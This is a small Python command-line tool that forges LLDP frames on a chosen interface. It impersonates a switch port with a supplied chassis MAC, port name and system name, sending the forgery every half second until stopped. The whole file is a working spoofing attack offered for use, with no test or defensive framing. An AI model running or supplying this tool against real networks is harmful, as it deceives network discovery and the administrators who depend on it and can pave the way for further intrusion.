"""A node that says by LLDP (IEEE 802.1AB) that it is a port of a switch, twice a second, until it is ended.

lldp_lie.py INTERFACE CHASSIS-MAC PORT SYSTEM-NAME"""

import socket
import sys
import time

CHASSIS_MAC, PORT_IFNAME = 4, 5


def tlv(kind, value):
    return bytes([kind << 1 | len(value) >> 8, len(value) & 255]) + value


def frame(source, chassis, port, name):
    pdu = tlv(1, bytes([CHASSIS_MAC]) + bytes.fromhex(chassis)) + tlv(2, bytes([PORT_IFNAME]) + port.encode()) + tlv(3, bytes([0, 120]))
    pdu += tlv(5, name.encode()) + tlv(0, b"")
    return bytes.fromhex("0180c200000e") + source + b"\x88\xcc" + pdu.ljust(46, b"\0")


interface, chassis, port, name = sys.argv[1:]
with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
    sock.bind((interface, 0))
    lie = frame(sock.getsockname()[4], chassis.replace(":", ""), port, name)
    while True:
        sock.send(lie)
        time.sleep(0.5)
